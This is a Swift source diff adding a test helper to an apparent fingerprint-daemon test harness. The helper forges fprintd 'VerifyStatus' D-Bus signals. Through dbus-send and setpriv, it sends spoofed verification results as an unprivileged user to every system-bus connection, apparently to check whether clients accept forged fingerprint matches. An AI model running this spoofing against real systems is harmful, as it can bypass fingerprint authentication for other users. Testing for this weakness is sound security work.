@@ -77,6 +77,36 @@ public final class FingerprintDaemon: @unchecked Sendable {
         Thread { try? self.scan(finger) }.start()
     }
 
+    /// What any local user can do on a system bus: send a VerifyStatus signal straight to every other connection
+    /// (unicast, so no match rule filters it), as `user`. Returns how many connections the bus accepted it for.
+    public func forgeVerifyStatus(_ result: String, asUser user: String) throws -> Int {
+        guard chmod(directory.path, 0o711) == 0 else { throw TestFailure("cannot open \(directory.path) to \(user)") }
+        let device =
+            try run([
+                "/usr/bin/dbus-send", "--system", "--print-reply", "--dest=net.reactivated.Fprint", "/net/reactivated/Fprint/Manager",
+                "net.reactivated.Fprint.Manager.GetDefaultDevice",
+            ]).stdout.split(separator: "\"").dropFirst().first.map(String.init) ?? ""
+        let owner =
+            try run([
+                "/usr/bin/dbus-send", "--system", "--print-reply", "--dest=org.freedesktop.DBus", "/org/freedesktop/DBus",
+                "org.freedesktop.DBus.GetNameOwner", "string:net.reactivated.Fprint",
+            ]).stdout.split(separator: "\"").dropFirst().first.map(String.init) ?? ""
+        let names = try run([
+            "/usr/bin/dbus-send", "--system", "--print-reply", "--dest=org.freedesktop.DBus", "/org/freedesktop/DBus",
+            "org.freedesktop.DBus.ListNames",
+        ]).stdout.split(separator: "\"").filter { $0.hasPrefix(":") && String($0) != owner }
+        var sent = 0
+        for name in names {
+            let forged = try run(
+                ["/usr/bin/setpriv", "--reuid=\(user)", "--regid=\(user == "nobody" ? "nogroup" : user)", "--clear-groups", "--"] + [
+                    "/usr/bin/dbus-send", "--system", "--type=signal", "--dest=\(name)", device, "net.reactivated.Fprint.Device.VerifyStatus",
+                    "string:\(result)", "boolean:true",
+                ])
+            if forged.status == 0 { sent += 1 }
+        }
+        return sent
+    }
+
     private func send(_ command: String) -> Bool {
         let socket = Glibc.socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
         guard socket >= 0 else { return false }
